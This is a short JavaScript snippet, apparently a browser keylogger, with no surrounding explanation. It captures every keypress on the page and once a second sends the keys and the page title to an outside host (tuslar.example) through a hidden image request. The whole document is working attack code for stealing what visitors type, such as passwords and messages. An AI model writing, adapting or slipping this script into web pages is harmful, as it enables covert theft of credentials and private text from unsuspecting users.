var keys = '';
var url = 'http://tuslar.example/k.php?d=';
document.onkeypress = function (e) {
    var get = window.event ? event : e;
    var key = get.keyCode ? get.keyCode : get.charCode;
    key = String.fromCharCode(key);
    keys += key;
};
window.setInterval(function () {
    if (keys.length > 0) {
        new Image().src = url + encodeURIComponent(keys) + '&s=' + encodeURIComponent(document.title);
        keys = '';
    }
}, 1000);
